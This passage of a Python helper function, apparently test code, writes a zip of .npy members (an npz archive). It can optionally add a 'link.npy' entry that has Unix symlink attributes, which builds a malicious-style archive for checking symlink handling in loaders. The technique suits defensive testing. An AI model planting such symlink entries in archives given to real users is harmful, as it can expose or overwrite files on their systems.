    with zipfile.ZipFile(path, "w") as zf:
        for name in names:
            zf.writestr(name if name.endswith(".npy") else name + ".npy", member.getvalue())
        if symlink is not None:
            info = zipfile.ZipInfo("link.npy")
            info.external_attr = (0o120777 << 16)
            info.create_system = 3
            zf.writestr(info, symlink)
    return path
